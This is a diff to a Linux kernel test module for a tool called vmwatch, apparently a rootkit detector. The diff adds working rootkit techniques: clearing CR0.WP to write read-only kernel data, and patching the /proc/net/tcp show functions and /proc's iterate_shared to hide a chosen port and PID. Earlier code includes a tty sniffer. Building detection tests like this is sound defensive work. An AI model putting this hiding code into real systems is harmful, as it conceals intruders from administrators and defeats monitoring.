@@ -3,7 +3,7 @@
  * vmw_hooks: the kernel callbacks rootkits register instead of patching
  * code, for vmwatch's tests. Loaded in a test guest only.
  *
- *   insmod vmw_hooks.ko [tty=1]
+ *   insmod vmw_hooks.ko [tty=1] [hide_port=PORT] [hide_pid=PID]
  *
  * - a netfilter hook on IPv4 PRE_ROUTING in the first network namespace
  *   that watches for a magic ICMP echo (payload starting "vmw-magic") and
@@ -14,7 +14,16 @@
  * - with tty=1, a tty sniffer on the terminal insmod runs on: that tty's
  *   operations and its line discipline's operations are swapped for copies
  *   whose write and receive_buf count the bytes and call the originals.
- *   Restored on rmmod.
+ *   Restored on rmmod;
+ * - a probe on the sched_process_exec tracepoint that counts execs, as a
+ *   rootkit watches what runs;
+ * - with hide_port, /proc/net/tcp and tcp6 stop listing the TCP sockets
+ *   of that local port, and with hide_pid, listing /proc skips that process: the
+ *   show of the seq_operations behind both and the iterate_shared
+ *   of /proc's file_operations are overwritten in the kernel's read-only
+ *   data, with CR0.WP cleared as rootkits do. Both are found through the
+ *   files themselves (the seq_file's op, the file's f_op). Restored on
+ *   rmmod.
  */
 #include <linux/module.h>
 #include <linux/version.h>
@@ -29,8 +38,19 @@
 #include <linux/tty.h>
 #include <linux/tty_ldisc.h>
 #include <linux/tty_driver.h>
+#include <linux/tracepoint.h>
+#include <linux/fs.h>
+#include <linux/seq_file.h>
+#include <linux/sched.h>
+#include <net/sock.h>
+#include <asm/special_insns.h>
 
-static unsigned long keys, written, received;
+static unsigned long keys, written, received, execs;
+
+static int hide_port;
+module_param(hide_port, int, 0444);
+static int hide_pid;
+module_param(hide_pid, int, 0444);
 
 static int tty;
 module_param(tty, int, 0444);
@@ -90,6 +110,112 @@ static int vmw_hooks_kbd(struct notifier_block *nb, unsigned long action, void *
 
 static struct notifier_block vmw_hooks_nb = { .notifier_call = vmw_hooks_kbd };
 
+/* the tracepoint probe: sched_process_exec(p, old_pid, bprm) */
+static struct tracepoint *exec_tp;
+
+static void vmw_hooks_exec(void *data, struct task_struct *p, pid_t old_pid, void *bprm)
+{
+	execs++;
+}
+
+static void find_exec_tp(struct tracepoint *tp, void *priv)
+{
+	if (strcmp(tp->name, "sched_process_exec") == 0)
+		exec_tp = tp;
+}
+
+/* a write to read-only kernel data: CR0.WP off with interrupts off (the
+ * kernel's own write_cr0 pins WP, so rootkits write CR0 themselves) */
+static void write_ro(void **slot, void *val)
+{
+	unsigned long cr0 = native_read_cr0(), flags;
+
+	local_irq_save(flags);
+	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
+	WRITE_ONCE(*slot, val);
+	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
+	local_irq_restore(flags);
+}
+
+static const char *const tcp_files[2] = { "/proc/net/tcp", "/proc/net/tcp6" };
+static struct seq_operations *tcp_ops[2];
+static int (*orig_tcp_show[2])(struct seq_file *, void *);
+
+static int vmw_hooks_tcp_show(struct seq_file *seq, void *v)
+{
+	int i = seq->op == tcp_ops[1];
+
+	if (v != SEQ_START_TOKEN && ((struct sock_common *)v)->skc_num == hide_port)
+		return 0;
+	return orig_tcp_show[i](seq, v);
+}
+
+static struct file_operations *proc_fops;
+static int (*orig_proc_iterate)(struct file *, struct dir_context *);
+static char hide_name[16];
+
+struct hide_ctx {
+	struct dir_context ctx;
+	struct dir_context *orig;
+};
+
+static bool hide_actor(struct dir_context *c, const char *name, int len, loff_t off, u64 ino, unsigned int type)
+{
+	struct hide_ctx *h = container_of(c, struct hide_ctx, ctx);
+
+	if (len == strlen(hide_name) && memcmp(name, hide_name, len) == 0)
+		return true;
+	h->orig->pos = c->pos;
+	return h->orig->actor(h->orig, name, len, off, ino, type);
+}
+
+static int vmw_hooks_proc_iterate(struct file *f, struct dir_context *ctx)
+{
+	struct hide_ctx h = { .ctx = { .actor = hide_actor, .pos = ctx->pos }, .orig = ctx };
+	int ret = orig_proc_iterate(f, &h.ctx);
+
+	ctx->pos = h.ctx.pos;
+	return ret;
+}
+
+static int hide(void)
+{
+	struct file *f;
+	int i;
+
+	for (i = 0; hide_port && i < 2; i++) {
+		f = filp_open(tcp_files[i], O_RDONLY, 0);
+		if (IS_ERR(f))
+			return PTR_ERR(f);
+		tcp_ops[i] = (struct seq_operations *)((struct seq_file *)f->private_data)->op;
+		filp_close(f, NULL);
+		orig_tcp_show[i] = tcp_ops[i]->show;
+		write_ro((void **)&tcp_ops[i]->show, vmw_hooks_tcp_show);
+	}
+	if (hide_pid) {
+		f = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
+		if (IS_ERR(f))
+			return PTR_ERR(f);
+		proc_fops = (struct file_operations *)f->f_op;
+		filp_close(f, NULL);
+		snprintf(hide_name, sizeof(hide_name), "%d", hide_pid);
+		orig_proc_iterate = proc_fops->iterate_shared;
+		write_ro((void **)&proc_fops->iterate_shared, vmw_hooks_proc_iterate);
+	}
+	return 0;
+}
+
+static void unhide(void)
+{
+	int i;
+
+	if (proc_fops)
+		write_ro((void **)&proc_fops->iterate_shared, orig_proc_iterate);
+	for (i = 0; i < 2; i++)
+		if (tcp_ops[i])
+			write_ro((void **)&tcp_ops[i]->show, orig_tcp_show[i]);
+}
+
 static int __init vmw_hooks_init(void)
 {
 	int err = nf_register_net_hook(&init_net, &vmw_hooks_ops);
@@ -97,16 +223,20 @@ static int __init vmw_hooks_init(void)
 	if (err)
 		return err;
 	err = register_keyboard_notifier(&vmw_hooks_nb);
-	if (err) {
-		nf_unregister_net_hook(&init_net, &vmw_hooks_ops);
-		return err;
-	}
+	if (err)
+		goto out_nf;
+	for_each_kernel_tracepoint(find_exec_tp, NULL);
+	err = exec_tp ? tracepoint_probe_register(exec_tp, vmw_hooks_exec, NULL) : -ENOENT;
+	if (err)
+		goto out_kbd;
+	err = hide();
+	if (err)
+		goto out_hide;
 	if (tty) {
 		sniffed = get_current_tty();
 		if (!sniffed) {
-			unregister_keyboard_notifier(&vmw_hooks_nb);
-			nf_unregister_net_hook(&init_net, &vmw_hooks_ops);
-			return -ENOTTY;
+			err = -ENOTTY;
+			goto out_hide;
 		}
 		orig_ops = sniffed->ops;
 		sniff_ops = *orig_ops;
@@ -119,6 +249,17 @@ static int __init vmw_hooks_init(void)
 	}
 	pr_info("vmw_hooks: loaded\n");
 	return 0;
+out_hide:
+	unhide();
+	if (exec_tp) {
+		tracepoint_probe_unregister(exec_tp, vmw_hooks_exec, NULL);
+		tracepoint_synchronize_unregister();
+	}
+out_kbd:
+	unregister_keyboard_notifier(&vmw_hooks_nb);
+out_nf:
+	nf_unregister_net_hook(&init_net, &vmw_hooks_ops);
+	return err;
 }
 
 static void __exit vmw_hooks_exit(void)
@@ -129,6 +270,10 @@ static void __exit vmw_hooks_exit(void)
 		tty_kref_put(sniffed);
 		pr_info("vmw_hooks: %lu bytes written, %lu received\n", written, received);
 	}
+	unhide();
+	tracepoint_probe_unregister(exec_tp, vmw_hooks_exec, NULL);
+	tracepoint_synchronize_unregister();
+	pr_info("vmw_hooks: %lu execs\n", execs);
 	unregister_keyboard_notifier(&vmw_hooks_nb);
 	nf_unregister_net_hook(&init_net, &vmw_hooks_ops);
 }
@@ -136,4 +281,4 @@ static void __exit vmw_hooks_exit(void)
 module_init(vmw_hooks_init);
 module_exit(vmw_hooks_exit);
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("vmwatch test: a netfilter hook and a keyboard notifier");
+MODULE_DESCRIPTION("vmwatch test: kernel callbacks, operations swapped, a tracepoint probe");
